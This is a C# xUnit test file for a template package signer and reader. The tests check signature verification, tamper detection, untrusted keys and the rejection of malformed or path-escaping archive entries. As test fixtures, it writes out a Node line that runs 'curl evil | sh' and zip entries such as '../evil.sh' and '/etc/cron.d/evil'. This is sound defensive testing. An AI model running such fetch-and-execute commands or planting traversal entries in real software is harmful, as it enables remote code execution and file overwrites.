using System.IO.Compression;
using System.Text;
using Ferry.Hub.Packaging;
using Ferry.Manifest;
using Ferry.Packaging;

namespace Ferry.Hub.Tests;

public sealed class TemplatePackageTests : IDisposable
{
    private readonly TemplateSigningKey key = TemplateSigningKey.Generate();
    private readonly TemporaryApp app = Templates.ResizerApp();

    public void Dispose()
    {
        key.Dispose();
        app.Dispose();
    }

    private TrustedKeys Trusted => new(key.PublicKey);

    private async Task<(byte[] Package, TemplatePackageSummary Summary)> PackAsync(TemplateSigningKey? signingKey = null)
    {
        using var output = new MemoryStream();
        var summary = await TemplatePackager.CreateAsync(app.Directory, signingKey ?? key, output, CancellationToken.None);
        return (output.ToArray(), summary);
    }

    private static Task<TemplatePackage> OpenAsync(byte[] package) =>
        TemplatePackageReader.OpenAsync(new MemoryStream(package), CancellationToken.None);

    private async Task<SignatureVerification> VerifyAsync(byte[] package, TrustedKeys? trusted = null)
    {
        await using var opened = await OpenAsync(package);
        return opened.VerifySignature(trusted ?? Trusted);
    }

    [Fact]
    public async Task Round_trip_verifies_and_exposes_definition_files_and_manifest()
    {
        var (package, summary) = await PackAsync();

        await using var opened = await OpenAsync(package);
        var verification = opened.VerifySignature(Trusted);

        Assert.True(verification.IsValid, verification.Message);
        Assert.Equal(key.KeyId, verification.KeyId);
        Assert.Equal(summary.PackageDigest, opened.PackageDigest);
        Assert.Equal("image-resizer@1.0.0", opened.Definition.Id);
        Assert.Equal(["README.md", "bootstrap", "handler.js", "serverless.yml"], opened.Files.Select(f => f.Path));
        Assert.Equal(["bootstrap"], opened.Files.Where(f => f.ClosedSource).Select(f => f.Path));
        Assert.True(opened.IsClosedSource("bootstrap"));
        Assert.False(opened.IsClosedSource("handler.js"));

        var manifest = opened.LoadReviewManifest().Manifest;
        var resize = manifest.Functions.Single(f => f.Name == "resize");
        Assert.Equal("${param:apiKey}", resize.Environment["API_KEY"]);
        Assert.Equal("2", resize.Environment["REPLICAS"]);

        var destination = Path.Combine(app.Directory, "extracted");
        await using (var archive = opened.OpenAppArchive())
        {
            await AppArchive.ExtractAsync(archive, destination, new ArchiveLimits(), CancellationToken.None);
        }

        Assert.Equal(File.ReadAllText(Path.Combine(app.Directory, "handler.js")), File.ReadAllText(Path.Combine(destination, "handler.js")));
    }

    [Fact]
    public async Task Same_content_gives_the_same_digest_whoever_signs_it()
    {
        var (first, firstSummary) = await PackAsync();
        var (second, secondSummary) = await PackAsync();
        using var otherKey = TemplateSigningKey.Generate();
        var (_, otherSigner) = await PackAsync(otherKey);

        Assert.Equal(firstSummary.PackageDigest, secondSummary.PackageDigest);
        Assert.Equal(first, second);
        Assert.Equal(firstSummary.PackageDigest, otherSigner.PackageDigest);
        Assert.Matches("^[0-9a-f]{64}$", firstSummary.PackageDigest);

        app.Write("handler.js", "exports.resize = async () => ({ statusCode: 201 });\n");
        var (_, changed) = await PackAsync();
        Assert.NotEqual(firstSummary.PackageDigest, changed.PackageDigest);
    }

    [Fact]
    public async Task Tampered_template_json_fails_as_a_bad_signature()
    {
        var (package, _) = await PackAsync();
        var tampered = PackageSurgery.EditTemplateJson(package, json => json["template"]!["description"] = "Totally harmless");

        var verification = await VerifyAsync(tampered);

        Assert.Equal(SignatureFailure.BadSignature, verification.Failure);
        Assert.Contains("does not match template.json", verification.Message);
    }

    [Fact]
    public async Task Tampered_app_zip_fails_as_tampered_content()
    {
        var (package, _) = await PackAsync();
        app.Write("handler.js", "require('child_process').exec('curl evil | sh');\n");
        var (evil, _) = await PackAsync();
        var tampered = PackageSurgery.Replace(package, PackageFormat.AppArchiveEntry, PackageSurgery.Entries(evil)[PackageFormat.AppArchiveEntry]);

        var verification = await VerifyAsync(tampered);

        Assert.Equal(SignatureFailure.TamperedContent, verification.Failure);
        Assert.Contains("app.zip was changed after signing", verification.Message);
    }

    [Fact]
    public async Task A_file_that_does_not_match_its_hash_fails_even_when_signed()
    {
        var (package, _) = await PackAsync();
        var forged = PackageSurgery.EditTemplateJson(package, json => json["files"]![2]!["sha256"] = new string('0', 64), key);

        var verification = await VerifyAsync(forged);

        Assert.Equal(SignatureFailure.TamperedContent, verification.Failure);
        Assert.Equal("'handler.js' does not match its SHA-256 in template.json", verification.Message);
    }

    [Fact]
    public async Task A_definition_that_differs_from_the_packaged_serverless_yml_fails()
    {
        var (package, _) = await PackAsync();
        var forged = PackageSurgery.EditTemplateJson(package, json => json["template"]!["closedSource"] = new System.Text.Json.Nodes.JsonArray(), key);

        var verification = await VerifyAsync(forged);

        Assert.Equal(SignatureFailure.DefinitionMismatch, verification.Failure);
    }

    [Fact]
    public async Task An_untrusted_key_is_reported_by_id()
    {
        var (package, _) = await PackAsync();
        using var stranger = TemplateSigningKey.Generate();

        var verification = await VerifyAsync(package, new TrustedKeys(stranger.PublicKey));

        Assert.Equal(SignatureFailure.UnknownKey, verification.Failure);
        Assert.Equal($"the package is signed with key {key.KeyId}, which is not a trusted key", verification.Message);
    }

    [Fact]
    public async Task A_signature_by_another_key_under_a_trusted_key_id_is_bad()
    {
        var (package, _) = await PackAsync();
        using var impostor = TemplateSigningKey.Generate();
        var entries = PackageSurgery.Entries(package);
        var forgedSignature = PackageSurgery.Signature(impostor, entries[PackageFormat.TemplateEntry], entries[PackageFormat.AppArchiveEntry]);
        var claimed = Encoding.UTF8.GetString(forgedSignature).Replace(impostor.KeyId, key.KeyId, StringComparison.Ordinal);

        var verification = await VerifyAsync(PackageSurgery.Replace(package, PackageFormat.SignatureEntry, Encoding.UTF8.GetBytes(claimed)));

        Assert.Equal(SignatureFailure.BadSignature, verification.Failure);
    }

    [Fact]
    public async Task A_missing_or_malformed_signature_is_reported()
    {
        var (package, _) = await PackAsync();

        var missing = await VerifyAsync(PackageSurgery.Replace(package, PackageFormat.SignatureEntry, null));
        var malformed = await VerifyAsync(PackageSurgery.Replace(package, PackageFormat.SignatureEntry, "{ not json"u8.ToArray()));

        Assert.Equal(SignatureFailure.MissingSignature, missing.Failure);
        Assert.Equal(SignatureFailure.MalformedSignature, malformed.Failure);
    }

    [Theory]
    [InlineData("../evil.sh", "no entry name may contain a path")]
    [InlineData("/etc/cron.d/evil", "no entry name may contain a path")]
    [InlineData("extra.txt", "unexpected entry 'extra.txt'")]
    public async Task Unexpected_or_escaping_entries_are_rejected_on_open(string name, string reason)
    {
        var (package, _) = await PackAsync();
        var entries = PackageSurgery.Entries(package);
        entries[name] = "echo pwned"u8.ToArray();

        var exception = await Assert.ThrowsAsync<TemplatePackageException>(() => OpenAsync(PackageSurgery.Build(entries)));

        Assert.Contains(reason, exception.Message);
    }

    [Fact]
    public async Task Missing_parts_and_garbage_are_rejected_on_open()
    {
        var (package, _) = await PackAsync();

        var noApp = await Assert.ThrowsAsync<TemplatePackageException>(() => OpenAsync(PackageSurgery.Replace(package, PackageFormat.AppArchiveEntry, null)));
        var noTemplate = await Assert.ThrowsAsync<TemplatePackageException>(() => OpenAsync(PackageSurgery.Replace(package, PackageFormat.TemplateEntry, null)));
        var notZip = await Assert.ThrowsAsync<TemplatePackageException>(() => OpenAsync("not a zip"u8.ToArray()));

        Assert.Contains("has no app.zip", noApp.Message);
        Assert.Contains("has no template.json", noTemplate.Message);
        Assert.Contains("not a valid zip archive", notZip.Message);
    }

    [Fact]
    public async Task A_path_escaping_entry_inside_app_zip_is_rejected()
    {
        var (package, _) = await PackAsync();
        using var evilApp = new MemoryStream();
        using (var zip = new ZipArchive(evilApp, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var stream = zip.CreateEntry("../outside.js").Open();
            stream.Write("boom"u8);
        }

        var exception = await Assert.ThrowsAsync<TemplatePackageException>(() =>
            OpenAsync(PackageSurgery.Replace(package, PackageFormat.AppArchiveEntry, evilApp.ToArray())));

        Assert.Contains("'../outside.js' is not a plain relative path", exception.Message);
    }

    [Fact]
    public async Task Packaging_refuses_a_closed_source_function_without_its_binary()
    {
        File.Delete(Path.Combine(app.Directory, "bootstrap"));

        var exception = await Assert.ThrowsAsync<ManifestException>(() => PackAsync());

        Assert.Contains("closed-source function 'native' needs the file 'bootstrap', which is not in the package", exception.Message);
    }

    [Fact]
    public async Task Packaging_reports_template_errors_with_locations()
    {
        app.Write("serverless.yml", Templates.Resizer.Replace("version: 1.0.0", "version: one", StringComparison.Ordinal));

        var exception = await Assert.ThrowsAsync<ManifestException>(() => PackAsync());

        Assert.Contains(exception.Errors, error => error.Location?.Line == 8 && error.Message.Contains("template.version 'one'"));
    }
}
